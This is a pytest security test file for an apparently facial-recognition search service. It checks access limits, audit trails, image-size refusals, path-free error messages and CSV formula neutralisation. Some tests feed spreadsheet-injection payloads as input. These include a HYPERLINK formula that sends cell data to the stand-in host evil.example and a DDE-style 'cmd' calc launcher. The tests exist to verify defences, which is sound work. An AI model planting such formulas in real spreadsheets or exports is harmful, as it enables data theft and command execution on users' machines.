"""Face finding (limits, audit, its own engine), hostile fields, CSV downloads, refused views and the audit trail's
readers."""

from __future__ import annotations

import csv
import io
import re

from facetrail.accountability import context as context_module
from facetrail.csvcells import safe_cell
from facetrail.engine.pipeline import FaceEngine
from facetrail.gallery.enrol import uploaded, write_report
from tests.security.helpers import entries, run_search
from tests.fixtures.images import jpeg, png_claiming
from tests.fixtures.world import SEARCH_FIELDS, V1


def test_finding_faces_is_for_investigators_audited_and_limited_below_enrolment(world, faces):
    client, ivan = world.client, world.as_user("ivan")
    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
    assert client.post(f"{V1}/faces", headers=ivan, files={"image": photo}).status_code == 200
    [inspected] = entries(world, "faces_inspected")
    assert inspected["actor"] == "ivan" and inspected["details"]["faces"] == 1 and len(inspected["details"]["sha256"]) == 64
    assert client.post(f"{V1}/faces", headers=world.as_user("alma"), files={"image": photo}).status_code == 403

    huge = ("huge.png", png_claiming(6000, 6000), "image/png")  # 36 MP: enrolment would take it, face finding not
    assert client.post(f"{V1}/faces", headers=ivan, files={"image": huge}).status_code == 413
    assert "pixels" in entries(world, "faces_inspection_refused")[-1]["details"]["reason"]
    refused = client.post(f"{V1}/searches", headers=ivan, files={"probe": huge}, data=SEARCH_FIELDS)
    assert refused.status_code == 413 and entries(world, "search_refused")


def test_a_search_does_not_wait_behind_someone_elses_face_finding(world, faces, monkeypatch):
    monkeypatch.setattr(context_module, "INSPECTION_WAIT_SECONDS", 0.2)
    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
    busy = world.system.context.engines._inspection_lock
    assert busy.acquire()  # as if another user's photograph were being inspected
    try:
        assert run_search(world, faces) > 0
        answer = world.client.post(f"{V1}/faces", headers=world.as_user("ivan"), files={"image": photo})
        assert answer.status_code == 503 and answer.json()["error"]["type"] == "busy"
    finally:
        busy.release()


def test_a_face_box_with_huge_numbers_is_refused_and_audited(world, faces):
    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
    box = "99999999999999999999,1,10,10"
    refused = world.client.post(f"{V1}/searches", headers=world.as_user("ivan"), files={"probe": photo},
                                data={**SEARCH_FIELDS, "face_box": box})
    assert refused.status_code == 422 and "at most" in refused.json()["error"]["reason"]
    assert "at most" in entries(world, "search_refused")[-1]["details"]["reason"]
    inspected = world.client.post(f"{V1}/faces", headers=world.as_user("ivan"), files={"image": photo},
                                  data={"face_box": "1,1,2147483648,10"})
    assert inspected.status_code == 400 and entries(world, "faces_inspection_refused")


def test_report_downloads_neutralise_spreadsheet_formulas(world, faces):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
    world.client.post(f"{V1}/searches", headers=world.as_user("ivan"), files={"probe": photo},
                      data={**SEARCH_FIELDS, "purpose": formula})
    report = world.client.get(f"{V1}/reports", params={"format": "csv", "by": "purpose"}, headers=world.as_user("alma"))
    assert report.status_code == 200
    cells = [line.split(",")[0] for line in report.text.splitlines()]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells), report.text
    assert "'=HYPERLINK" in report.text


def test_refused_looks_at_photographs_and_admin_routes_are_audited(world, faces):
    search_id = run_search(world, faces)
    # roles without the permission get 403; another unit's investigator gets the 404 of a missing search
    for username, path, status in (("alma", f"/searches/{search_id}/probe", 403),
                                   ("admin", f"/searches/{search_id}/candidates/1/image", 403),
                                   ("tina", f"/searches/{search_id}", 404), ("ivan", "/users", 403)):
        assert world.client.get(f"{V1}{path}", headers=world.as_user(username)).status_code == status
    denied = {(e["actor"], e["details"]["action"]) for e in entries(world, "access_denied")}
    assert {("alma", "view_candidate_images"), ("admin", "view_candidate_images"), ("tina", "view_candidate_images"),
            ("ivan", "manage_users")} <= denied


def test_reading_the_audit_trail_is_audited(world):
    answer = world.client.get(f"{V1}/audit/entries", params={"action": "search", "limit": 10}, headers=world.as_user("alma"))
    assert answer.status_code == 200
    [viewed] = entries(world, "audit_viewed")
    assert viewed["actor"] == "alma" and viewed["details"]["action"] == "search"


def test_a_unit_named_with_a_slash_can_be_granted_and_revoked(world):
    admin = world.as_user("admin")
    assert world.client.post(f"{V1}/galleries/county/grants", headers=admin, json={"unit": "RHD/Night"}).status_code == 201
    assert world.client.delete(f"{V1}/galleries/county/grants/RHD/Night", headers=admin).status_code == 204
    assert "RHD/Night" not in world.client.get(f"{V1}/galleries/county", headers=admin).json()["searchable_by_units"]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formula_cells(text: str) -> list[tuple[str, str]]:
    """The cells a spreadsheet would take for formulas, reading ``text`` with each usual separator (quotes respected,
    surrounding spaces trimmed, as LibreOffice's import offers)."""
    found = []
    for separator in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            found += [(separator, cell) for cell in row if cell.lstrip(" ").startswith(FORMULA_STARTS)
                      and not NUMBER.fullmatch(cell.strip())]
    return found


NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def test_formulas_after_a_separator_or_spaces_are_neutralised_in_every_csv_download(world, faces, tmp_path):
    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
    for purpose in ("a;=1+1", "b; -2+3", "c|@SUM(A1)", "d\t+1", 'e"=1', "\uff1dcmd|' /C calc'!A0"):
        world.client.post(f"{V1}/searches", headers=world.as_user("ivan"), files={"probe": photo},
                          data={**SEARCH_FIELDS, "purpose": purpose})
    report = world.client.get(f"{V1}/reports", params={"format": "csv", "by": "purpose"}, headers=world.as_user("alma"))
    assert report.status_code == 200 and "a;'=1+1" in report.text
    assert not formula_cells(report.text), report.text

    names = (" =1+1.jpg", "x;=1+1.jpg", "\u3000@SUM(A1).jpg", "\uff0bcmd.jpg", "-5.jpg")
    admin = world.system.auth.authenticate(world.tokens["admin"])
    summary = world.system.admin.enrol(admin, "county", [uploaded(name, b"", "B-3003", "booking") for name in names])
    write_report(tmp_path / "report.csv", summary.outcomes)
    text = (tmp_path / "report.csv").read_text(encoding="utf-8")
    assert not formula_cells(text), text
    assert "' =1+1.jpg" in text  # marked as text, otherwise as it was


def test_numbers_stay_numbers_in_csv_cells():
    assert [safe_cell(value) for value in (-5, -2.5, "-5", "+0.25", "-1+1", "=1")] == [-5, -2.5, "-5", "+0.25", "'-1+1", "'=1"]


def test_an_enrolment_error_names_the_uploaded_file_never_a_server_path(world, faces, monkeypatch):
    scratch = "/tmp/facetrail-upload-3f2a/0001.jpg"

    def unreadable_model(self, face):  # as when the engine meets a file the server cannot read
        raise OSError(2, "No such file or directory", scratch)

    monkeypatch.setattr(FaceEngine, "template", unreadable_model)
    photo = ("booking 17.jpg", jpeg(faces["biden.jpg"], 500), "image/jpeg")
    answers = [world.client.post(f"{V1}/galleries/county/images", headers=world.as_user("admin"), files={"image": photo},
                                 data={"subject_id": "B-4004", "source": "booking"}) for _ in range(2)]
    for answer in answers:  # rejected, then previously rejected: the stored reason is the one shown again
        assert answer.status_code == 422, answer.text
        message = answer.json()["error"]["message"]
        assert message.startswith("booking 17.jpg: ") and "/tmp" not in message and "facetrail-upload" not in message
    batch = world.client.post(f"{V1}/galleries/county/batches", headers=world.as_user("admin"),
                              files=[("images", ("other.jpg", jpeg(faces["obama2.jpg"], 500), "image/jpeg"))],
                              data={"manifest": "subject_id,path\nB-5005,other.jpg\n", "source": "booking"})
    [outcome] = batch.json()["outcomes"]
    assert outcome["file"] == "other.jpg" and outcome["status"] == "rejected" and "/tmp" not in outcome["reason"]


def test_damaged_stored_data_is_reported_by_reference_never_by_server_path(world, faces, caplog):
    """A probe that no longer decrypts (or a damaged index) is the installation's fault: the user is told so with a
    reference to the logged text, which alone names the file on the server."""
    search_id = run_search(world, faces)
    for blob in world.system.datadir.probes_dir.rglob("*"):
        if blob.is_file():
            blob.write_bytes(b"FTENC1" + bytes(64))  # damaged on disk
    with caplog.at_level("ERROR", logger="facetrail.api"):
        answer = world.client.get(f"{V1}/searches/{search_id}/probe", headers=world.as_user("ivan"))
    root = str(world.system.datadir.root)
    assert answer.status_code == 500 and root not in answer.text, answer.text
    reference = re.search(r"reference ([0-9a-f]{8})", answer.json()["error"]["message"]).group(1)
    [logged] = [record.getMessage() for record in caplog.records if reference in record.getMessage()]
    assert root in logged  # the administrator finds the file from the reference
